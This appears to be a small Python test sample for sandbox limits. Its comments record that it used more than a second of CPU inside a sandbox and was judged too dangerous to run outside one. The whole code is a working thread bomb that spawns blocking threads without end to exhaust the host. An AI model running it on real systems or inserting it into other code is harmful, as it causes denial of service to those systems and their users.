# Starts threads until there are no more.
# inside: used more than 1 s of CPU
# without: not tried, too dangerous
import threading

while True:
    try:
        threading.Thread(target=threading.Event().wait).start()
        gained = True
    except RuntimeError:
        pass
